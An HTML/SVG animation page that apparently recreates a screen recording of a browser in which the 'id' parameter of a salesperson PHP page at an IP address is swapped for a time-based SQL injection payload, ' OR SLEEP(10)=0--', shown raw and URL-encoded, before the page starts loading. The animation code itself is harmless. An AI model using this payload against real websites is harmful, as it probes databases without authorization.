
An HTML page that plays this animation: 832x673 px, repeating every 8000 ms.

```html
<!DOCTYPE html>
<html lang="ko">
<head>
<meta charset="utf-8">
<title>Salesperson</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #fff; }
  svg { display: block; width: 100vw; height: 100vh; }
  text { font: 15px "Open Sans", "Noto Sans CJK KR", "Noto Sans CJK", sans-serif; word-spacing: 1.5px; letter-spacing: .04px; white-space: pre; }
  .nav text { fill: #fff; letter-spacing: .12px; }
  .tab { font-size: 11.3px; word-spacing: 0; fill: #3c4043; }
  .url { font-size: 13.2px; word-spacing: 0; fill: #7b7e82; }
  .hint { fill: #6a6d71; }
  .dark { fill: #202124; }
  .red { fill: #d3302f; }
  .ko { font-size: 14px; }
  .wide { letter-spacing: .37px; }
  .enc { letter-spacing: .24px; }
  .link { font-size: 13.25px; font-weight: 700; fill: #1967d2; }
  .link .wide { letter-spacing: .6px; }
  .h1 { font-size: 30.2px; font-weight: 700; letter-spacing: -.4px; }
  .h2 { font-size: 22.5px; font-weight: 700; letter-spacing: -.4px; }
  .line { fill: none; stroke: #54585c; stroke-width: 1.8; }
  .thin { stroke-width: 1.4; }
</style>
</head>
<body>
<svg viewBox="0 0 832 673">
  <defs>
    <filter id="shadow" x="-5%" y="-20%" width="110%" height="150%">
      <feDropShadow dx="0" dy="4" stdDeviation="3" flood-color="#000" flood-opacity=".22"/>
    </filter>
    <g id="globe">
      <circle r="6.7" fill="#5f6368"/>
      <path d="M-5.3-1.2L-2 2v1.2l1.4 1.2v1.2A5.4 5.4 0 0 1-5.3-1.2zM1.3-5.1v1L0-2.8h-1.4v1.4h-1.3V0h4v2h1.2l1.3 1.2A5.4 5.4 0 0 0 1.3-5.1z" fill="#fff"/>
    </g>
  </defs>

  <rect width="832" height="673" fill="#fff"/>
  <rect width="832" height="39" fill="#0063b1"/>
  <path d="M0 39q7 0 7-7V14q0-8 8-8h217q8 0 8 8v18q0 7 7 7z" fill="#fff"/>
  <text class="tab" x="42" y="26">Salesperson: Toven Hadle</text>
  <path class="line thin" d="M220.7 18.5l7.6 7.6m0-7.6l-7.6 7.6"/>
  <path d="M255.5 22.3h12m-6-6v12" stroke="#fff" stroke-width="1.8"/>
  <path id="file" class="line thin" d="M22 15.7h6l3.7 3.7v9.2H22zM27.6 15.7v4h4"/>
  <path id="spin" d="M0 5.9A5.9 5.9 0 0 1 0-5.9" pathLength="180" fill="none" stroke="#a3a6aa" stroke-width="2"/>

  <path class="line" d="M27 56.5H14.5m6.3-6.2l-6.2 6.2 6.2 6.2"/>
  <path class="line" d="M44.7 56.5h12.5m-6.3-6.2l6.2 6.2-6.2 6.2" style="stroke:#bdc0c3"/>
  <g id="reload">
    <path class="line" d="M87.2 52.3A6 6 0 1 0 88.6 58.4"/>
    <path d="M89.6 49.6v6.1h-6.1z" fill="#54585c"/>
  </g>
  <path id="stop" class="line" d="M77.5 51.5l10.2 10.2m0-10.2L77.5 61.7"/>

  <g class="nav">
    <rect y="74.5" width="832" height="49" fill="#334488"/>
    <text x="39" y="108">Home</text>
    <text x="128" y="108">About Brelizok</text>
    <text x="282" y="108">Find a Salesperson</text>
    <text x="461" y="108">Contact</text>
    <text x="562" y="108">Login</text>
  </g>

  <text class="h1" x="29.5" y="178">Salesperson</text>
  <text x="30" y="224">Toven Hadle</text>
  <text x="30" y="244.3">555-555-0147</text>
  <text x="30" y="264.7">thadle@vendors.example</text>
  <text class="h2" x="30" y="333.5">Territories</text>
  <g id="list"></g>

  <g id="idle">
    <rect id="pill" x="104" y="43" width="760" height="27" rx="13.5" fill="#fff"/>
    <rect id="ring" x="104" y="43" width="760" height="27" rx="13.5" fill="none" stroke="#9fc3f7" stroke-width="2"/>
    <path d="M121.5 50l7.3 12.6h-14.6z" fill="#cf2f2a"/>
    <path d="M121.5 54.2v4.2m0 1v1.6" stroke="#fff" stroke-width="1.5"/>
    <text class="url red ko" x="137.5" y="61">주의</text>
    <text class="url red ko" x="169" y="61">요함</text>
    <path d="M203.5 49v15" stroke="#dba7a5"/>
    <rect id="mark" x="555.7" y="46" width="8.6" height="21" fill="#0078d7"/>
    <text class="url" x="212.5" y="61"><tspan class="red" text-decoration="line-through">https</tspan>://<tspan class="dark">104.198.208.81</tspan>/blue/public/salesperson.php?id=<tspan id="digit">1</tspan></text>
  </g>

  <g id="typing">
    <rect x="95" y="60" width="760" height="100" rx="6" opacity=".08"/>
    <rect x="98" y="40" width="760" height="108" rx="8" fill="#fafafa" filter="url(#shadow)"/>
    <use href="#globe" x="121.5" y="56.5"/>
    <use href="#globe" x="121.5" y="92.5"/>
    <circle class="line thin" cx="120" cy="127.5" r="3.9"/>
    <path class="line" d="M122.8 130.3l4.2 4.2"/>
    <text class="url" x="148" y="61">https://<tspan class="dark">104.198.208.81</tspan>/blue/public/salesperson.php?id=<tspan class="wide">' OR SLEEP(10)=0--'</tspan></text>
    <path d="M613.5 47v18" stroke="#333"/>
    <text class="url dark" x="148" y="97">Salesperson: Toven Hadle</text>
    <text class="url hint" x="311.5" y="97">-</text>
    <text class="url link" x="322" y="97">https://104.198.208.81/blue/public/salesperson.php?id=%27<tspan class="wide"> OR SLEEP(10)=0--%27</tspan></text>
    <text class="url dark" x="148" y="133.7">https://104.198.208.81/blue/public/salesperson.php?id=<tspan class="wide">' OR SLEEP(10)=0--'</tspan></text>
    <text class="url hint" x="618" y="133.7">-</text>
    <text class="url hint" x="628.5" y="133.7">Wobeli</text>
    <text class="url hint ko" x="679" y="133.7">검색</text>
  </g>

  <g id="loading">
    <circle class="line thin" cx="121.5" cy="56.5" r="6.2"/>
    <path class="line thin" d="M121.5 53v1.6m0 1.3v4.3"/>
    <text class="url" x="137" y="61">https://<tspan class="dark">104.198.208.81</tspan>/blue/public/salesperson.php?id=<tspan class="enc">%27%20OR%20SLEEP(10)=0--%27</tspan></text>
  </g>

  <g id="beam" fill="none">
    <path d="M-3-7.5h2q1 0 1 1 0-1 1-1h2M0-6.5v13M-3 7.5h2q1 0 1-1 0 1 1 1h2" stroke="#fff" stroke-width="2.6"/>
    <path d="M-3-7.5h2q1 0 1 1 0-1 1-1h2M0-6.5v13M-3 7.5h2q1 0 1-1 0 1 1 1h2" stroke="#000" stroke-width="1.2"/>
  </g>
  <path id="arrow" d="M.5.5v16l3.7-3.5 2.6 6 2.3-1-2.6-5.7h5z" fill="#fff" stroke="#000"/>
</svg>
<script>
  const LOOP = 8000, TYPE = 1230, LOAD = 1810;
  const SPIN_START = 1670, SPIN_TURN = 1320, STEP = 137.7;
  const $ = id => document.getElementById(id);
  const show = (id, on) => $(id).style.display = on ? "" : "none";
  const move = (id, x, y, turn = 0) =>
    $(id).setAttribute("transform", `translate(${x} ${y}) rotate(${turn})`);

  const states = ["Alabama", "Florida", "Georgia", "Mississippi", "North Carolina",
    "South Carolina", "Southern Virginia", "St. Louis Area", "Tennessee"];
  $("list").innerHTML = states.map((name, i) => {
    const y = 375.5 + i * 20.45;
    return `<circle cx="54.5" cy="${y - 4.7}" r="2.9"/><text x="69" y="${y}">${name}</text>`;
  }).join("");

  // time, x, y: the pointer jumps from one place to the next
  const pointer = [
    [0, 538.5, 59], [130, 550, 59], [250, 556, 59], [950, 572, 59], [1100, 586.5, 59],
    [TYPE, 603, 62], [LOAD, 590, 80], [1950, 580, 92], [2080, 560, 110], [2210, 530, 140],
    [2350, 510, 153], [2450, 508, 154.5], [2600, 508, 168], [2750, 508, 191], [2900, 508, 207.5]
  ];

  function drawPointer(t) {
    const [, x, y] = pointer.filter(p => p[0] <= t).pop();
    const overUrl = y < 72;
    show("beam", overUrl);
    show("arrow", !overUrl);
    move(overUrl ? "beam" : "arrow", x, y);
  }

  function drawSpinner(t) {
    const ticks = Math.max(0, Math.floor((t - LOAD) / STEP + 0.4));
    const turned = (LOAD + ticks * STEP - SPIN_START) / SPIN_TURN * 360;
    $("spin").setAttribute("stroke-dasharray", `${Math.min(180, turned)} 360`);
    move("spin", 26, 22.3, 180 - turned);
  }

  function draw(t) {
    const loading = t >= LOAD, idle = t < TYPE, picked = t >= 950;
    show("idle", idle);
    show("typing", !idle && !loading);
    show("loading", loading);
    show("file", !loading);
    show("spin", loading);
    show("reload", !loading);
    show("stop", loading);
    show("mark", picked);
    $("digit").style.fill = picked ? "#fff" : "";
    $("pill").setAttribute("fill", t < 130 || t >= 530 ? "#fff" : t < 250 ? "#fafbfb" : "#f6f7f8");
    $("ring").setAttribute("opacity", t < 530 ? 0 : t < 650 ? 0.5 : 1);
    drawSpinner(t);
    drawPointer(t);
  }

  const start = performance.now();
  function frame() {
    draw((performance.now() - start) % LOOP);
    requestAnimationFrame(frame);
  }
  frame();
</script>
</body>
</html>
```
